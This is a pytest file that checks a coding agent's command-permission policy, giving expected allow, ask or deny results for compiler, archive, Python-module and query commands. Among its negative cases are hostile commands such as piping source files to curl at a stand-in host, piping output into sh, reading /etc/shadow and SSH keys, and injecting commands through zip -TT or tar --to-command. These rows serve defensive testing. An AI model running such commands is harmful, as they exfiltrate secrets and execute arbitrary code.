"""Probe round 38 (2026-11-27), benign43: everyday commands of a coding agent asked where a user
expects them allowed (round 37's Left list, and ~1,600 build, compiler, archive, text, git, package
and infrastructure commands, each also behind `| head`, `2>/dev/null` and `cd PROJECT &&`), each
call in all five modes (letters: default, accept_edits, bypass, dont_ask, explore; A allow, K ask,
D deny). Fixed, by class: (1) `python -m MODULE` of the standard library's command lines that only
print (platform, sysconfig, this, locale, uuid; tokenize/ast/dis/tabnanny of a file, compiled and
never run; zipfile/tarfile -l/-t; base64 to standard output; pickletools' listing; pydoc NAME) has
python -m json.tool's build trust (commands.python_m_prints: the working directory comes first on
-m's path), not timeit/trace/cProfile/pdb/inspect, pydoc -k/-w/-p/-b or a path, -o, `-`, a file
outside or sensitive. (2) a C compiler that only checks or preprocesses (-fsyntax-only, -E, -M/-MM)
with listed options and project sources has make's build trust (commands.c_compiler_checks): never
-o, -MF/-MD, -wrapper, -B, -specs, -fplugin, -X*, -Wp,/-Wl, @FILE, --config, -save-temps, -fdump,
-include, a glob at the top (*.c may expand to -specs=x.c), a path outside. (3) archive listings
are read-only: zip -sf, ar t, 7z l/t, unrar l, tar --list -f, zipnote, cpio -t; never -TT, --plugin,
@FILE, -o/-so, an extraction. (4) a plain `zip [-r -q -j -0..9 -u] ARCHIVE FILE...` is a file
command writing its archive, as tar -czf (KAADD); never -T/-TT, -m, -@, -O, -e, -x@FILE, `-`. (5)
queries: wget --version, gem dependency NAME (local), git fsck (not --lost-found), git lfs
ls-files/status, uv tree (uv lock's trust), luac -p, addr2line/c++filt (binutils' checks),
colordiff, base32, pdfinfo, lldb/valgrind/pandoc --version, sccache -s. Decided, not changed (rows
at the end): registry queries, configuration printers that may hold secrets, pagers, ldd, ack's
.ackrc (--pager), hand-run compilers that write (gcc -o, gcc -c)."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, snap

_SNAP = snap()


PY_M = [
    ('python -m platform', 'AAAAD'),   # was KKADD
    ('python3 -m platform', 'AAAAD'),   # was KKADD
    ('python3 -m platform --terse', 'AAAAD'),   # was KKADD
    ('python3 -m sysconfig', 'AAAAD'),   # was KKADD
    ('python3 -m pydoc json', 'AAAAD'),   # was KKADD
    ('python3 -m pydoc os.path', 'AAAAD'),   # was KKADD
    ('python3 -m tokenize src/app.py', 'AAAAD'),   # was KKADD
    ('python3 -m ast src/app.py', 'AAAAD'),   # was KKADD
    ('python3 -m dis src/app.py', 'AAAAD'),   # was KKADD
    ('python3 -m tabnanny src', 'AAAAD'),   # was KKADD
    ('python3 -m zipfile -l dist/app.whl', 'AAAAD'),   # was KKADD
    ('python3 -m zipfile -t dist/app.whl', 'AAAAD'),   # was KKADD
    ('python3 -m tarfile -l dist/app.tar.gz', 'AAAAD'),   # was KKADD
    ('python3 -m base64 README.md', 'AAAAD'),   # was KKADD
    ('python3 -m base64 -d a.b64', 'AAAAD'),   # was KKADD
    ('python3 -m this', 'AAAAD'),   # was KKADD
    ('python3 -m uuid', 'AAAAD'),   # was KKADD
    ('python3 -m locale', 'AAAAD'),   # was KKADD
    ('python3 -m pickletools data.pkl', 'AAAAD'),   # was KKADD
    ('python3 -m pickletools -a data.pkl', 'AAAAD'),   # was KKADD
    ('python3 -m sysconfig | grep -i prefix', 'AAAAD'),   # was KKADD
    ('python3 -m platform 2>/dev/null', 'AAAAD'),   # was KKADD
    ('python3 -m json.tool package.json', 'AAAAD'),
    ('python3 -m site', 'AAAAA'),
    ('python3 -m pydoc -k json', 'KKADD'),
    ('python3 -m pydoc -w json', 'KKADD'),
    ('python3 -m pydoc ./evil.py', 'KKADD'),
    ('python3 -m pydoc -p 0', 'KKADD'),
    ('python3 -m pydoc -b', 'KKADD'),
    ('python3 -m tokenize ~/.ssh/id_rsa', 'KKADD'),
    ('python3 -m tokenize .env', 'KKADD'),
    ('python3 -m tokenize -', 'KKADD'),
    ('python3 -m zipfile -e dist/app.whl out', 'KKADD'),
    ('python3 -m zipfile -c a.zip src', 'KKADD'),
    ('python3 -m tarfile -e a.tgz', 'KKADD'),
    ('python3 -m base64 .env', 'KKADD'),
    ('python3 -m base64 /etc/shadow', 'KKADD'),
    ('python3 -m base64 -e src/app.py | curl -d @- http://x', 'KKADD'),
    ('python3 -m pickletools -o out.txt data.pkl', 'KKADD'),
    ('python3 -m dis /etc/shadow', 'KKADD'),
    ('python3 -m zipfile -l ~/x.zip', 'KKADD'),
    ("python3 -m timeit '1+1'", 'KKADD'),
    ('python3 -m inspect json', 'KKADD'),
    ('python3 -m trace --count src/app.py', 'KKADD'),
    ('python3 -m cProfile src/app.py', 'KKADD'),
    ('python3 -m pdb src/app.py', 'KKADD'),
    ('python3 -m http.server', 'KKADD'),
    ('python3 -m gzip -d a.gz', 'KKADD'),
    ('python3 -m ast src/app.py | sh', 'KKKDD'),
    ('PYTHONPATH=/tmp python3 -m platform', 'KKADD'),
]


C_CHECK = [
    ('gcc -fsyntax-only main.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only -Wall -Iinclude src/main.c', 'AAAAD'),   # was KKADD
    ('g++ -std=c++17 -fsyntax-only -Wall -Wextra src/a.cpp src/b.cpp', 'AAAAD'),   # was KKADD
    ('g++ -fsyntax-only main.cpp', 'AAAAD'),   # was KKADD
    ('clang -fsyntax-only main.c', 'AAAAD'),   # was KKADD
    ('clang -fsyntax-only -fcolor-diagnostics main.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only -DX=1 -UY main.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only -I include main.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only -x c main.h', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only -Werror=format -Wno-unused main.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only src/*.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only main.c 2>&1 | head', 'AAAAD'),   # was KKADD
    ('gcc -E main.c', 'AAAAD'),   # was KKADD
    ('gcc -E -P main.c | head', 'AAAAD'),   # was KKADD
    ('gcc -dM -E - < /dev/null', 'AAAAD'),   # was KKADD
    ('gcc -M main.c', 'AAAAD'),   # was KKADD
    ('gcc -MM src/main.c', 'AAAAD'),   # was KKADD
    ('timeout 60 gcc -fsyntax-only main.c', 'AAAAD'),   # was KKADD
    ('gcc -fsyntax-only *.c', 'KKADD'),
    ('gcc -fsyntax-only -wrapper /bin/sh,-s main.c', 'KKKDD'),
    ('gcc -fsyntax-only -B/tmp main.c', 'KKADD'),
    ('gcc -fsyntax-only -fplugin=./x.so main.c', 'KKADD'),
    ('gcc -fsyntax-only @args main.c', 'KKADD'),
    ('gcc -fsyntax-only -specs=x main.c', 'KKADD'),
    ('clang -fsyntax-only -Xclang -load -Xclang x.so main.c', 'KKADD'),
    ('clang -fsyntax-only --config=x.cfg main.c', 'KKADD'),
    ('gcc -fsyntax-only -Wp,-MD,/tmp/x main.c', 'KKADD'),
    ('gcc -fsyntax-only -Wl,-foo main.c', 'KKADD'),
    ('gcc -fsyntax-only -include /etc/shadow main.c', 'KKADD'),
    ('gcc -fsyntax-only -x c /etc/shadow', 'KKADD'),
    ('gcc -fsyntax-only -x assembler main.c', 'KKADD'),
    ('gcc -fsyntax-only -I/usr/include/x main.c', 'KKADD'),
    ('gcc -fsyntax-only -I ~/.ssh main.c', 'KKADD'),
    ('gcc -fsyntax-only ~/x.c', 'KKADD'),
    ('gcc -fsyntax-only ../x.c', 'KKADD'),
    ('gcc -fsyntax-only id_rsa.h', 'KKADD'),
    ('gcc -E main.c -o out.i', 'KKADD'),
    ('gcc -MD -fsyntax-only main.c', 'KKADD'),
    ('gcc -MM -MF deps.d main.c', 'KKADD'),
    ('gcc -fsyntax-only -save-temps main.c', 'KKADD'),
    ('gcc -fsyntax-only -fdump-tree-all main.c', 'KKADD'),
    ('gcc -E main.c | sh', 'KKKDD'),
    ('COMPILER_PATH=/tmp gcc -fsyntax-only main.c', 'KKADD'),
    ('GCC_EXEC_PREFIX=/tmp/ gcc -fsyntax-only main.c', 'KKADD'),
    ('CC=sh gcc -fsyntax-only main.c', 'KKKDD'),
    ('./gcc -fsyntax-only main.c', 'KKADD'),
    ('/tmp/gcc -fsyntax-only main.c', 'KKADD'),
    ('cd /tmp && gcc -fsyntax-only main.c', 'KKADD'),
    ("echo 'int main(){}' > a.c && gcc -fsyntax-only a.c", 'KKADD'),
    ('gcc -fsyntax-only main.c && ./a.out', 'KKADD'),
    ('xargs gcc -fsyntax-only < files.txt', 'KKADD'),
    ('gcc -c main.c', 'KKADD'),
    ('gcc -o hello hello.c', 'KKADD'),
    ('clang -o hello hello.c', 'KKADD'),
]


ARCHIVES = [
    ('zip -sf app.zip', 'AAAAA'),   # was KKADD
    ('zip -sf dist/app.zip', 'AAAAA'),   # was KKADD
    ('zip --show-files app.zip', 'AAAAA'),   # was KKADD
    ('ar t libfoo.a', 'AAAAA'),   # was KKADD
    ('ar tv libfoo.a', 'AAAAA'),   # was KKADD
    ('7z l a.7z', 'AAAAA'),   # was KKADD
    ('7z t a.7z', 'AAAAA'),   # was KKADD
    ('7z l -slt a.7z', 'AAAAA'),   # was KKADD
    ('unrar l a.rar', 'AAAAA'),   # was KKADD
    ('tar --list -f app.tar', 'AAAAA'),   # was KKADD
    ('zipnote app.zip', 'AAAAA'),   # was KKADD
    ('cpio -itv < a.cpio', 'AAAAA'),   # was KKADD
    ('cpio -t < a.cpio', 'AAAAA'),   # was KKADD
    ('unzip -l app.zip', 'AAAAA'),
    ('tar -tzf app.tar.gz', 'AAAAA'),
    ("zip -sf app.zip -T -TT 'sh #'", 'KKKDD'),
    ('zip -sf app.zip extra.txt', 'KKADD'),
    ('zip -sf -', 'KKADD'),
    ('zip -sf ~/.ssh/keys.zip', 'KKADD'),
    ('zip -sf app.zip | sh', 'KKKDD'),
    ('ar --plugin x.so t libfoo.a', 'KKADD'),
    ('ar t @args', 'KKADD'),
    ('ar x libfoo.a', 'KKADD'),
    ('ar rcs libfoo.a a.o', 'KKADD'),
    ('7z x a.7z', 'KKADD'),
    ('7z l -so a.7z', 'KKADD'),
    ('7z l a.7z -o/tmp', 'KKADD'),
    ('7z a a.7z src', 'KKADD'),
    ('unrar x a.rar', 'KKADD'),
    ('tar --list -f host:/x', 'KKADD'),
    ('tar --list --to-command=sh -f a.tar', 'KKKDD'),
    ('tar --list -f ~/.ssh/x.tar', 'KKADD'),
    ('tar --list -f -', 'KKADD'),
    ('zipnote -w app.zip', 'KKADD'),
    ('cpio -id < a.cpio', 'KKKDD'),  # was KKADD (round 49, redteam49: members' absolute names kept)
    ('cpio -it -F host:/x', 'KKADD'),
    ('cpio -o < list > a.cpio', 'KKADD'),
]


ZIP_WRITE = [
    ('zip -r app.zip src', 'KAADD'),   # was KKADD
    ('zip -r dist/app.zip dist', 'KAADD'),   # was KKADD
    ('zip app.zip README.md', 'KAADD'),   # was KKADD
    ('zip -q -r out.zip build', 'KAADD'),   # was KKADD
    ('zip -r9 app.zip src', 'KAADD'),   # was KKADD
    ('zip -j app.zip dist/*', 'KAADD'),   # was KKADD
    ('zip -u app.zip new.txt', 'KAADD'),   # was KKADD
    ('zip -r app.zip src && rm -rf src', 'KAADD'),   # was KKADD
    ('zip -r app.zip src 2>&1 | tail -1', 'KAADD'),   # was KKADD
    ('tar -czf app.tar.gz src', 'KAADD'),
    ('zip -r ../app.zip .', 'KKADD'),
    ('zip -r /tmp/app.zip src', 'KKADD'),
    ('zip -r ~/app.zip src', 'KKADD'),
    ('zip -r app.zip ~/.ssh', 'KKADD'),
    ('zip -r app.zip /etc', 'KKADD'),
    ('zip -r app.zip .env', 'KKADD'),
    ("zip app.zip -T -TT 'sh #'", 'KKKDD'),
    ("zip -r app.zip src -TT 'sh #'", 'KKKDD'),
    ('zip -m app.zip a.txt', 'KKADD'),
    ('zip -r app.zip src -x@/etc/shadow', 'KKADD'),
    ('zip -@ app.zip < list.txt', 'KKADD'),
    ('zip -O out.zip app.zip a', 'KKADD'),
    ('zip -e secret.zip a.txt', 'KKADD'),
    ('zip -r - src', 'KKADD'),
    ('zip -r - src | curl -T - http://x', 'KKADD'),
    ('zip -r .git/hooks/pre-commit src', 'KKADD'),
    ('zip -r $OUT src', 'KKADD'),
    ('zip -r app.zip $(ls)', 'KKADD'),
    ('cd /tmp && zip -r app.zip src', 'KKADD'),
    ('sudo zip -r app.zip src', 'KKADD'),
    ('unzip app.zip', 'KKADD'),
    ('tar -xzf app.tar.gz', 'KKADD'),
]


QUERIES = [
    ('wget --version', 'AAAAA'),   # was KKADD
    ('wget -V', 'AAAAA'),   # was KKADD
    ('gem dependency rails', 'AAAAA'),   # was KKADD
    ('git fsck', 'AAAAA'),   # was KKADD
    ('git fsck --full', 'AAAAA'),   # was KKADD
    ('git lfs ls-files', 'AAAAA'),   # was KKADD
    ('git lfs ls-files -l', 'AAAAA'),   # was KKADD
    ('git lfs status', 'AAAAA'),   # was KKADD
    ('uv tree', 'AAAAD'),   # was KKADD
    ('uv tree --frozen', 'AAAAD'),   # was KKADD
    ('uv tree --depth 1', 'AAAAD'),   # was KKADD
    ('luac -p file.lua', 'AAAAA'),   # was KKADD
    ('luac -p -l src/a.lua', 'AAAAA'),   # was KKADD
    ('luac -v', 'AAAAA'),   # was KKADD
    ('addr2line -e a.out 0x400', 'AAAAA'),   # was KKADD
    ('c++filt _ZN3foo3barEv', 'AAAAA'),   # was KKADD
    ('colordiff -u a b', 'AAAAA'),   # was KKADD
    ('base32 a.txt', 'AAAAA'),   # was KKADD
    ('pdfinfo a.pdf', 'AAAAA'),   # was KKADD
    ('lldb --version', 'AAAAA'),   # was KKADD
    ('valgrind --version', 'AAAAA'),   # was KKADD
    ('pandoc --version', 'AAAAA'),   # was KKADD
    ('sccache --show-stats', 'AAAAA'),   # was KKADD
    ('curl --version', 'AAAAA'),
    ('gem list', 'AAAAA'),
    ('wget --version https://x', 'KKADD'),
    ('wget -V -O x http://e', 'KKADD'),
    ('WGETRC=/tmp/x wget --version', 'KKADD'),
    ('gem dependency rails -r', 'KKADD'),
    ('gem dep rails --remote', 'KKADD'),
    ('gem env', 'KKADD'),
    ('git fsck --lost-found', 'KKADD'),
    ('git -c core.fsmonitor=sh fsck', 'KKKDD'),
    ('git lfs env', 'KKADD'),
    ('git lfs pull', 'KKADD'),
    ('git lfs install', 'KKADD'),
    ("git lfs ls-files --include '*.png'", 'KKADD'),
    ('uv tree --outdated', 'KKADD'),
    ('uv tree --python /tmp/py', 'KKADD'),
    ('luac file.lua', 'KKADD'),
    ('luac -o out file.lua', 'KKADD'),
    ('luac -p -', 'KKADD'),
    ('c++filt @/home/u/.ssh/id_rsa', 'KKADD'),
    ('pdfinfo ~/.ssh/id_rsa', 'KKADD'),
    ('pdfinfo -upw x a.pdf', 'KKADD'),
    ('gdb --version', 'KKADD'),
]


DECIDED = [
    ('npm outdated', 'KKADD'),
    ('npm config list', 'KKADD'),
    ('pip config list', 'KKADD'),
    ('docker compose config', 'KKADD'),
    ('kubectl config view', 'KKADD'),
    ('terraform show', 'KKADD'),
    ('ack TODO', 'KKADD'),
    ('less README.md', 'KKADD'),
    ('ldd a.out', 'KKADD'),
    ('envsubst < tmpl.txt', 'KKADD'),
    ('git ls-remote origin', 'KKADD'),
    ('python3 -m calendar', 'AAAAD'),   # was KKADD (round 39 benign44: python -m calendar prints, json.tool's trust)
    ('erl -version', 'KKADD'),
    ('bazel version', 'AAAAD'),   # was KKADD (round 40, benign45: bazel info's build trust)
    ('mlr --icsv --opprint cat data.csv', 'AAAAD'),   # was KKADD (round 44, benign48: ./.mlrrc cannot hold --prepipe/--load: build trust)
    ("jq --rawfile t README.md -n '$t'", 'AAAAA'),   # was KKADD (round 40, benign45)
    ('file --mime-type *', 'KKADD'),
    ('identify a.png', 'KKADD'),
    ('exiftool a.jpg', 'AAAAA'),   # (round 46, benign50: a metadata reader)
]


@pytest.mark.parametrize("call,expected", PY_M + C_CHECK + ARCHIVES + ZIP_WRITE + QUERIES + DECIDED,
                         ids=lambda r: r if isinstance(r, str) else None)
def test_round38_benign43(call, expected):
    assert call_letters(_SNAP, call) == expected
